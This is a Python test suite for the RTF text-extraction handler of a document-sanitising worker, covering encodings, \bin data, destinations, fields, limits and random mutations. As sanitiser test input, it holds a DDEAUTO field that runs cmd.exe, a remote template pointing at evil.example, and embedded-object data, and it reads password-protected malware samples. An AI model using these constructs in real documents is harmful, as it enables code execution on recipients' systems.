# SPDX-License-Identifier: GPL-2.0-or-later
"""cdr-rtf: the rtf-text handler of mugaika-worker (src/worker/rtf.c).

Drives the worker directly (mgw.run) on the RTF files of the shared
corpus (found by their "{\\rtf" magic), on the oletools rtfobj samples
(decrypted in memory from their zip), and on hand-written documents for
each part of the tokenizer: \\u with \\uc, surrogates, code pages and
font charsets, \\bin, destinations, fields, unbalanced braces, limits.
Every check looks at the text output itself.
"""
import os
import random
import re
import sys
import time
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mgw  # noqa: E402
from tap import args, check, done, need_shared  # noqa: E402

A = args()
CORPUS = need_shared(A)
W = A.worker
T0 = time.monotonic()
HEX64 = re.compile(rb'[0-9A-Fa-f]{64}')
CONTROL = re.compile('[\x00-\x08\x0b-\x1f\x7f]')
SAN_REPORTS = []


def run(*a, **k):
    """mgw.run, remembering any sanitizer report (ASan/UBSan builds)."""
    r = mgw.run(*a, **k)
    if b'ERROR: AddressSanitizer' in r.stderr or b'runtime error:' in r.stderr:
        SAN_REPORTS.append(r.stderr[-1500:])
    return r


def rtf(data, opts=None, name='test.rtf'):
    o = {'name': name} if name is not None else {}
    o.update(opts or {})
    return run(W, 'rtf-text', data=data, opts=o)


def text_of(r):
    """The single output decoded as UTF-8 (None when it is not)."""
    if r.status != 'ok' or len(r.outputs) != 1:
        return None
    try:
        return r.outputs[0].data.decode('utf-8')
    except UnicodeDecodeError:
        return None


def removed(r):
    return r.notes_of('removed')


def expect(data, want, what, opts=None):
    r = rtf(data, opts)
    got = text_of(r)
    check(got == want, what, 'got %r want %r (status %s %s, notes %s)' %
          (got, want, r.status, r.reason, r.notes))
    return r


def safe_output(r, src, what):
    """The checks every RTF file gets: exit 0 with a Z record, an ok
    status, one text/plain output that is valid UTF-8 with no object
    data and no control words left in it."""
    ok = check(r.returncode == 0 and r.status is not None and r.protocol_error is None,
               '%s: exit 0 with a Z record' % what,
               'rc %s status %s %s' % (r.returncode, r.status, r.protocol_error))
    ok = check(r.status == 'ok' and len(r.outputs) == 1, '%s: status ok, one output' % what,
               '%s %s outputs %r' % (r.status, r.reason, r.outputs)) and ok
    if not ok:
        return None
    o = r.outputs[0]
    check(o.type == 'text/plain; charset=utf-8' and (o.name or '').endswith('.txt'),
          '%s: named .txt, typed text/plain; charset=utf-8' % what, repr(o))
    try:
        text = bytes(o.data).decode('utf-8')
    except UnicodeDecodeError as e:
        check(False, '%s: output is valid UTF-8' % what, e)
        return None
    check(True, '%s: output is valid UTF-8' % what)
    bad = []
    if b'objdata' in o.data or b'objclass' in o.data:
        bad.append('objdata/objclass')
    m = HEX64.search(o.data)
    if m:
        bad.append('hex run %r' % m.group()[:80])
    # a backslash may only come from an escaped one ("\\") in the source
    if text.count('\\') > src.count(b'\\\\'):
        bad.append('backslash: %r' % text[max(0, text.find('\\') - 40):text.find('\\') + 40])
    if CONTROL.search(text):
        bad.append('control character')
    check(not bad, '%s: no object data, hex blobs, control words or controls' % what,
          '; '.join(bad))
    return text


def find_rtf(corpus):
    found = []
    for root, dirs, files in os.walk(corpus):
        dirs.sort()
        for f in sorted(files):
            p = os.path.join(root, f)
            try:
                with open(p, 'rb') as fh:
                    if fh.read(5) == b'{\\rtf':
                        found.append(p)
            except OSError:
                pass
    return found


# ---- the corpus ----

def test_japanese():
    p = os.path.join(CORPUS, 'tika', 'testRTFJapanese.rtf')
    src = open(p, 'rb').read()
    r = run(W, 'rtf-text', p, opts={'name': 'testRTFJapanese.rtf'})
    text = safe_output(r, src, 'testRTFJapanese.rtf')
    if text is None:
        return
    check(r.outputs[0].name == 'testRTFJapanese.txt', 'Japanese: output name', r.outputs[0].name)
    # \f6 is \fcharset128: \'hh pairs are CP932; the title is \u with \'3f fallbacks
    lines = text.split('\n')
    check(lines[0] == 'ゾルゲの処刑記録、', 'Japanese: page header (CP932 pairs) first',
          repr(lines[:2]))
    check(lines[1] == 'ゾルゲと尾崎、淡々と最期\u3000', 'Japanese: \\u title, fallbacks skipped',
          repr(lines[:2]))
    check(text.count('ゾルゲと尾崎、淡々と最期') == 1,
          'Japanese: the \\info title is not text (only the body copy)')
    for s in ['古書店で処刑記録見つかる',
              '1.\tゾルゲの処刑記録、',
              '2.\t「何等取乱シタル態度無ク」と記されていた＝渡部富哉さん提供',
              '3.\t>尾崎秀実の記録、',
              'ジャーナリスト尾崎秀実（ほつみ）の処刑記録が見つかった。',
              '\u3000社会運動史を研究する渡部富哉さん（東京都三鷹市）が今年８月、',
              '連合国軍総司令部（ＧＨＱ）が作成したゾルゲ事件の調査報告書を発見。',
              '「静カニ教誨師（きょうかいし）始メ職員ニ対シ『皆様御親切有難フ』ヲ繰返シツツ',
              '今回発見されたのは、\tＧＨＱ内の情報部門が行ったゾルゲ事件の調査報告書で、\t\n',
              '「３３\uff5e４５年の市谷刑務所と東京拘置所における死刑執行の記録からの抜粋」',
              '講演会「現代の情報戦とゾルゲ事件」で明らかにされる。\n(10/17 15:53)\n']:
        check(s in text, 'Japanese: exact text %r' % s[:24], repr(text[:300]))
    check('?' not in text and '\ufffd' not in text, 'Japanese: no ? fallbacks, no U+FFFD')
    check(not re.search('[\x80-\xff]{2}', text), 'Japanese: no undecoded (Latin-1) bytes')
    check('MS Gothic' not in text and 'Times New Roman' not in text and 'VMazel' not in text
          and 'Heading' not in text, 'Japanese: font table, styles and \\info are not text')
    check('document properties' in removed(r), 'Japanese: \\info noted', r.notes)


def test_embedded():
    for f, objs in [('testRTFEmbeddedFiles.rtf', None), ('testRTFEmbeddedLink.rtf', 1)]:
        p = os.path.join(CORPUS, 'tika', f)
        src = open(p, 'rb').read()
        n = len(re.findall(rb'\\object(?![a-z])', src))
        if objs is not None:
            check(n == objs, '%s: %d \\object in the source' % (f, objs), n)
        r = run(W, 'rtf-text', p, opts={'name': f})
        text = safe_output(r, src, f)
        if text is None:
            continue
        want = '%d embedded object%s' % (n, '' if n == 1 else 's')
        check(want in removed(r), '%s: noted "%s"' % (f, want), r.notes)
        check(any(x.endswith('picture') or x.endswith('pictures') for x in removed(r)),
              '%s: pictures noted' % f, r.notes)
        check('1 data store' in removed(r), '%s: data store noted' % f, r.notes)
        check(len(r.outputs[0].data) < 200 and text.strip() == '',
              '%s: only the (empty) paragraphs are left' % f, repr(text[:200]))
        for s in ['Word.Document', 'Package', 'Excel', 'Calibri', 'shapeType', 'Light Grid']:
            check(s not in text, '%s: no %r in the text' % (f, s))


def test_corpus():
    files = find_rtf(CORPUS)
    check(len(files) >= 15, 'corpus: at least 15 RTF files found by magic', len(files))
    for p in files:
        src = open(p, 'rb').read()
        rel = os.path.relpath(p, CORPUS)
        r = run(W, 'rtf-text', p, opts={'name': os.path.basename(p)})
        safe_output(r, src, rel)
    # texts whose content is known
    r = run(W, 'rtf-text', os.path.join(CORPUS, 'corkami', 'mini', 'rich.rtf'))
    check(text_of(r) == 'Rich Text Format\n', 'rich.rtf: exact text', text_of(r))
    check(r.outputs and r.outputs[0].name == 'document.txt', 'no name option: document.txt',
          r.outputs)
    r = run(W, 'rtf-text', os.path.join(CORPUS, 'mimekit', 'tnef', 'rtf', 'message.rtf'))
    t = text_of(r) or ''
    check('\\hge\n' in t and 'Greg Allen\n' in t and 'Arial' not in t,
          'tnef rtf: escaped backslash kept, text, no font names', repr(t))
    r = run(W, 'rtf-text', os.path.join(CORPUS, 'mimekit', 'tnef', 'multi-value-attribute',
                                        'message.rtf'))
    check(text_of(r) == 'You received a voice mail from Curie Conf Room at 208225 '
          '[tel:208225].\n\n', 'tnef hyperlink: result kept, target after it',
          repr(text_of(r)))
    r = run(W, 'rtf-text', os.path.join(CORPUS, 'mimekit', 'tnef', 'MAPI_ATTACH_DATA_OBJ',
                                        'message.rtf'))
    check('bodødamene er noe mer jålete' in (text_of(r) or ''), 'tnef: Windows-1252 text',
          repr((text_of(r) or '')[:100]))


def test_rtfobj():
    d = os.path.join(CORPUS, 'oletools', 'rtfobj')
    zips = sorted(f for f in os.listdir(d) if f.endswith('.zip'))
    check(len(zips) >= 1, 'oletools rtfobj: samples present', zips)
    for z in zips:
        with zipfile.ZipFile(os.path.join(d, z)) as zf:
            for m in zf.namelist():
                data = zf.read(m, pwd=b'infected-test')
                if not data.startswith(b'{\\rt'):
                    continue
                r = rtf(data, name=m)
                check(r.returncode == 0 and r.status is not None,
                      'rtfobj %s: exit 0 with a Z record' % m, r.returncode)
                if data.startswith(b'{\\rtf'):
                    text = safe_output(r, data, 'rtfobj ' + m) or ''
                    check(b'\\object' not in data or any('embedded object' in n for n in
                                                         removed(r)),
                          'rtfobj %s: object noted' % m, r.notes)
                else:
                    # "{\rt" without the f: Word opens it, we refuse it
                    check(r.status == 'fail' and not r.outputs,
                          'rtfobj %s: "{\\rt" header refused, nothing out' % m,
                          '%s %r' % (r.status, r.outputs))
                    # the same document with a proper header: the object goes
                    fixed = b'{\\rtf1' + data[4:]
                    r = rtf(fixed, name=m)
                    text = safe_output(r, fixed, 'rtfobj %s with {\\rtf1' % m)
                    check(text == '', 'rtfobj %s fixed: no text (object and \\bin data gone)' % m,
                          repr(text))
                    check('1 embedded object' in removed(r), 'rtfobj %s fixed: object noted' % m,
                          r.notes)


# ---- hand-written documents ----

def test_unicode():
    expect(rb'{\rtf1\uc0 a\u12354 b}', 'a\u3042b', '\\uc0: no fallback skipped')
    expect(rb'{\rtf1\uc1 a\u12354?b}', 'a\u3042b', '\\uc1: one fallback skipped')
    expect(rb"{\rtf1\uc2 a\u12354\'82\'a0b}", 'a\u3042b', '\\uc2: two \\\'hh skipped')
    expect(rb'{\rtf1 {\uc2\u12354 xyz}}', '\u3042z', '\\uc2: two characters skipped')
    expect(rb'{\rtf1 \u8364?}', '\u20ac', 'default \\uc is 1')
    expect(rb'{\rtf1 {\uc0 \u65 }\u66 xC}', 'ABC', '\\uc is group-scoped')
    expect(rb'{\rtf1\uc3 \u65 {b}c}', 'Abc', 'a brace ends the fallback skip')
    expect(rb'{\rtf1\uc1\u65\par B}', 'AB', 'a control word is one fallback unit')
    expect(rb'{\rtf1 \u-27?}', '\uffe5', 'negative \\u + 65536')
    expect(rb'{\rtf1 \u-10179?\u-8704?!}', '\U0001F600!', 'surrogate pair')
    expect(rb'{\rtf1 \u-10179?x\u-8704?}', '\ufffdx\ufffd', 'unpaired surrogates: U+FFFD')
    expect(rb'{\rtf1 \u0?\u7?a}', 'a', '\\u control characters dropped')


def test_codepages():
    expect(rb"{\rtf1\ansi\ansicpg932 \'82\'a0}", '\u3042', 'CP932 \\\'82\\\'a0 is one character')
    expect(rb"{\rtf1\ansi\ansicpg932 \'83]\'83\\}", '\u30be\u30bd',
           'CP932 trail bytes as literal characters (] and \\\\)')
    expect(rb"{\rtf1\ansi\ansicpg932 \'82\par}", '\ufffd\n', 'CP932 lone lead byte: U+FFFD')
    expect(rb"{\rtf1\ansi caf\'e9 \'80}", 'caf\u00e9 \u20ac', 'Windows-1252 by default')
    expect(rb"{\rtf1\ansi\ansicpg1251 \'cf\'f0\'e8}", '\u041f\u0440\u0438', '\\ansicpg1251')
    fonts = (rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss\fcharset0 Arial;}"
             rb"{\f1\fnil\fcharset128 \'82\'6c\'82\'72 Gothic;}{\f2\fnil\fcharset134 SimSun;}"
             rb"{\f3\fnil\cpg1251 Cyr;}}")
    expect(fonts + rb"\f0 caf\'e9 {\f1 \'93\'fa\'96\'7b} \'e9\plain\f1 \'8c\'ea\plain \'e9}",
           'caf\u00e9 \u65e5\u672c \u00e9\u8a9e\u00e9', '\\fcharset128 font switching, \\plain')
    expect(fonts + rb"\f2 \'c4\'e3\'ba\'c3\f3 \'cf}", '\u4f60\u597d\u041f',
           '\\fcharset134 (GBK) and \\cpg1251 fonts')
    expect(rb"{\rtf1\ansi\ansicpg932{\fonttbl{\f0\fcharset1 X;}}\f0 \'82\'a0}", '\u3042',
           '\\fcharset1 uses \\ansicpg')
    expect(rb"{\rtf1\ansi\ansicpg932{\fonttbl{\f0\fcharset0 A;}}\f0 \'e9}", '\u00e9',
           '\\fcharset0 is Windows-1252 even under \\ansicpg932')
    expect(rb"{\rtf1\ansi\deff0{\fonttbl{\f0\fcharset128 G;}}\'82\'a0}", '\u3042',
           'the \\deff font\'s charset applies without \\f')
    r = expect(rb"{\rtf1\ansi\ansicpg4242 \'e9}", '\u00e9', 'unknown code page: 1252')
    check(any('4242' in n for n in r.notes_of('defect')), 'unknown code page noted', r.notes)
    expect(rb"{\rtf1 a\'00\'07\'0d\'1fb\'09c}", 'ab\tc', 'control bytes dropped, tab kept')


def test_bin():
    r = expect(b'{\\rtf1 A{\\pict\\bin8 \x00\x01{}\\\x7f\xff{}B}', 'AB', '\\bin in \\pict: 8 bytes')
    check('1 block of binary data' in removed(r) and '1 picture' in removed(r),
          '\\bin and \\pict noted', r.notes)
    expect(b'{\\rtf1 A\\bin4 {}}\\C}', 'AC', '\\bin in text: braces in the data ignored')
    expect(b'{\\rtf1 A\\bin3}}}B}', 'AB', '\\bin without a space: the data starts at once')
    expect(b'{\\rtf1\\u65\\bin2 }}B}', 'AB', '\\bin as a \\uc fallback unit, data skipped')
    r = rtf(b'{\\rtf1 A\\bin999999999 xyz')
    check(text_of(r) == 'A', '\\bin longer than the input: stops at the end', r.notes)
    expect(b'{\\rtf1 A\\bin-5 B}', 'AB', 'negative \\bin: nothing skipped')


def test_destinations():
    r = expect(rb'{\rtf1 A{\*\foo B{\bar C{\*\baz D}}E}F}', 'AF', 'nested \* destination skipped')
    check('1 other ignorable destination' in removed(r), '\\* destination noted', r.notes)
    expect(rb'{\rtf1 {\foo X}}', 'X', 'unknown destination without \\*: its text stays')
    r = expect(rb'{\rtf1 A{\object\objemb{\*\objclass Package}{\*\objdata 01050000020000000'
               rb'b000000}{\result B{\pict 89504e47}}}C}', 'ABC', '\\object: only \\result')
    check('1 embedded object' in removed(r) and '1 picture' in removed(r),
          'object and picture noted', r.notes)
    r = expect(rb'{\rtf1 A{\objdata 4142}{\*\objdata 4344}B}', 'AB', 'objdata without \\object')
    check('2 embedded objects' in removed(r), 'orphan objdata noted', r.notes)
    r = expect(rb'{\rtf1{\fonttbl{\f0 Arial;}}{\colortbl;\red0\green0\blue0;}{\stylesheet{\s0 '
               rb'Normal;}}{\info{\title T}{\author Me}}{\*\datastore 0105}{\*\template '
               rb'http://evil.example/t.dotm}{\*\generator W}X}', 'X', 'tables and \\info')
    for n in ['document properties', '1 data store', '1 template reference']:
        check(n in removed(r), 'noted: %s' % n, r.notes)
    r = expect(rb'{\rtf1 A{\v hidden}B\v C\v0 D}', 'ABD', 'hidden text dropped')
    check('hidden text (7 characters)' in removed(r), 'hidden text noted', r.notes)
    expect(rb'{\rtf1 {\field{\*\fldinst FORMTEXT {\*\datafield 0101}}{\fldrslt Name}}}',
           'Name', 'form field: data field dropped, result kept')
    expect(rb'{\rtf1 {\shp{\*\shpinst{\sp{\sn fill}{\sv 1}}{\shptxt Box\par}}}'
           rb'{\shprslt{\*\do Box}}}', 'Box\n', 'shape: text box text once, no properties')
    expect(rb'{\rtf1 a\emdash\endash\bullet\lquote\rquote\ldblquote\rdblquote\~\-\_\tab b\cell '
           rb'c\row d\line e\par\{\}\\}',
           'a\u2014\u2013\u2022\u2018\u2019\u201c\u201d\u00a0\u2011\tb\tc\nd\ne\n{}\\',
           'mapped control words and symbols')
    expect(b'{\\rtf1 a\\\nb\\\r\nc}', 'a\nb\nc', 'backslash before a line end is \\par')
    expect(b'{\\rtf1 a\r\nb\tc}', 'ab\tc', 'literal line ends ignored, tab kept')
    expect(rb'{\rtf1 \par-x \b1 y\b0-z}', '\n-x y-z', '"-" after a control word')


def test_fields():
    r = expect(rb'{\rtf1 See {\field{\*\fldinst{HYPERLINK "https://example.com/a.b?x=1"}}'
               rb'{\fldrslt{\ul here}}} now.}',
               'See here [hxxps://example[.]com/a.b?x=1] now.', 'HYPERLINK: target defanged')
    check('1 field code (HYPERLINK)' in removed(r), 'field code noted', r.notes)
    expect(rb'{\rtf1 {\field{\*\fldinst HYPERLINK \\l "_Toc1"}{\fldrslt Top}}}', 'Top',
           'HYPERLINK \\l (local): nothing added')
    expect(rb'{\rtf1 {\field{\*\fldinst HYPERLINK \\o "tip" http://a.b.example/}{\fldrslt L}}}',
           'L [hxxp://a[.]b[.]example/]', 'HYPERLINK \\o switch skipped, bare target')
    r = expect(rb'{\rtf1 {\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"}'
               rb'{\fldrslt result}}}', 'result', 'DDEAUTO: code dropped, result kept')
    check('1 field code (DDEAUTO)' in removed(r), 'DDEAUTO noted', r.notes)
    expect(rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "http://x.example/p.png" \\d}}}', '',
           'INCLUDEPICTURE without result: nothing')
    expect(rb'{\rtf1 {\field{\*\fldinst {\field{\*\fldinst PAGE}{\fldrslt 3}}}{\fldrslt r}}}',
           'r', 'nested field codes are not text')


def test_structure():
    r = expect(rb'{\rtf1 Hello {\b world', 'Hello world', 'missing closing braces: text so far')
    check(any('not closed' in n for n in r.notes_of('defect')), 'unclosed groups noted', r.notes)
    expect(rb'{\rtf1 Hello}}}}', 'Hello', 'extra closing braces ignored')
    r = expect(rb'{\rtf1 A{B}}}C{\object}D', 'AB', 'text after the end ignored')
    check(any('after the end' in n for n in r.notes_of('defect')), 'trailing content noted',
          r.notes)
    deep = b'{\\rtf1 ' + b'{' * 255 + b'x' + b'}' * 256
    expect(deep, 'x', 'depth 256 (default max-depth): ok')
    deeper = b'{\\rtf1 ' + b'{' * 256 + b'x' + b'}' * 257
    r = rtf(deeper)
    check(r.status == 'limit' and r.returncode == 0, 'depth 257: limit', '%s %s' %
          (r.status, r.reason))
    r = rtf(b'{\\rtf1 ' + b'{' * 100000)
    check(r.status == 'limit', '100000 open braces: limit', r.status)
    expect(deeper, 'x', 'max-depth=300: depth 257 ok', opts={'max-depth': '300'})
    r = rtf(b'{\\rtf1 0123456789}', {'max-output': '10'})
    check(text_of(r) == '0123456789', 'max-output: exactly the limit is ok', r.status)
    r = rtf(b'{\\rtf1 0123456789A}', {'max-output': '10'})
    check(r.status == 'limit', 'max-output: one byte more is limit', r.status)
    r = rtf(b'{\\rtf1 ' + b'\\par ' * 200000 + b'}', {'max-output': '100000'})
    check(r.status == 'limit', 'max-output: many paragraphs', r.status)
    for data, what in [(b'hello', 'plain text'), (b'', 'empty'), (b'{\\rt', 'truncated magic'),
                       (b'\xef\xbb\xbf{\\rtf1 x}', 'BOM before {\\rtf'),
                       (b' {\\rtf1 x}', 'space before {\\rtf'),
                       (b'{\\rt{\\object{\\*\\objdata 01}}}', '{\\rt header')]:
        r = rtf(data)
        check(r.status == 'fail' and not r.outputs and r.returncode == 0,
              'not RTF (%s): fail, no output' % what, '%s %r' % (r.status, r.outputs))
    r = rtf(b'{\\rtf1 x}', name='report.final.rtf')
    check(r.outputs and r.outputs[0].name == 'report.final.txt', 'name: extension replaced',
          r.outputs)
    r = rtf(b'{\\rtf1 x}', name='noext')
    check(r.outputs and r.outputs[0].name == 'noext.txt', 'name without extension', r.outputs)
    r = rtf(b'{\\rtf1 x}')
    check('RTF converted to text' in r.notes_of('converted'), 'converted note', r.notes)


def test_mutations():
    """Random damage to real documents: the worker must always end with
    a Z record and, when ok, valid text (fixed seed)."""
    rnd = random.Random(6)
    seeds = [open(os.path.join(CORPUS, 'tika', 'testRTFJapanese.rtf'), 'rb').read(),
             open(os.path.join(CORPUS, 'mimekit', 'tnef', 'multi-value-attribute',
                               'message.rtf'), 'rb').read(),
             b'{\\rtf1{\\fonttbl{\\f1\\fcharset128 G;}}\\f1\\uc2\\u12354\\\'82\\\'a0{\\field'
             b'{\\*\\fldinst HYPERLINK "http://a.example"}{\\fldrslt t}}\\bin3 abc{\\object'
             b'{\\*\\objdata 0105}{\\result r}}}']
    tokens = [b'{', b'}', b'\\', b'\\bin', b'\\u-', b'\\uc9 ', b"\\'8", b'\\*', b'\\field',
              b'\\fldinst ', b'\\object', b'\\f1 ', b'\xff', b'\x00', b'99999999999']
    bad = []
    for i in range(150):
        d = bytearray(rnd.choice(seeds))
        for _ in range(rnd.randint(1, 8)):
            pos = rnd.randrange(5, len(d))
            op = rnd.randrange(3)
            if op == 0:
                d[pos:pos] = rnd.choice(tokens)
            elif op == 1:
                del d[pos:pos + rnd.randint(1, 40)]
            else:
                d[pos] = rnd.randrange(256)
        r = rtf(bytes(d))
        if r.returncode != 0 or r.status is None or r.protocol_error:
            bad.append((i, r.returncode, r.status, r.stderr[-300:]))
        elif r.status == 'ok':
            try:
                t = r.outputs[0].data.decode('utf-8')
                if CONTROL.search(t):
                    bad.append((i, 'control character'))
            except UnicodeDecodeError:
                bad.append((i, 'invalid UTF-8'))
    check(not bad, '150 damaged documents: Z record, valid text', bad[:5])


test_japanese()
test_embedded()
test_corpus()
test_rtfobj()
test_unicode()
test_codepages()
test_bin()
test_destinations()
test_fields()
test_structure()
test_mutations()
check(not SAN_REPORTS, 'no sanitizer report from any run', SAN_REPORTS[:2])
check(time.monotonic() - T0 < 60, 'the test ran in under 60 s', time.monotonic() - T0)
done()
